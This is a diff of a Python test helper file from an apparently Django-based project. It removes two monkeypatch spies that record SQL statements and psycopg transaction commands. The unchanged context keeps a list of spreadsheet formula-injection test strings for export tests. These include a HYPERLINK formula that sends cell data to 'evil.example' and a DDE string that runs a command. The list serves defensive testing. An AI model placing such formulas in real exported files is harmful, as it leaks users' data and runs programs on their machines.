@@ -106,36 +106,6 @@ def rolled_back(django_db_blocker):
             get_locator().invalidate()
 
 
-def driver_statements(monkeypatch) -> list[str]:
-    """The SQL text of every call fastsql makes on the driver's cursor from now on (one call is one round
-    trip on PostgreSQL)."""
-    from civicgrid.core import fastsql
-
-    seen: list[str] = []
-    real = fastsql._Direct.execute
-
-    def spy(self, sql, params):
-        seen.append(sql)
-        return real(self, sql, params)
-    monkeypatch.setattr(fastsql._Direct, "execute", spy)
-    return seen
-
-
-def psycopg_commands(monkeypatch) -> list[bytes]:
-    """The commands psycopg sends on its own from now on: BEGIN before a transaction's first statement,
-    COMMIT, ROLLBACK."""
-    import psycopg
-
-    sent: list[bytes] = []
-    real = psycopg.Connection._exec_command
-
-    def spy(self, command, *args, **kwargs):
-        sent.append(bytes(command))
-        return real(self, command, *args, **kwargs)
-    monkeypatch.setattr(psycopg.Connection, "_exec_command", spy)
-    return sent
-
-
 # text a spreadsheet program could run as a formula (OWASP CSV/formula injection), for the export tests
 FORMULA_TEXT = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
                 "\t=1+1", "\r=1+1"]
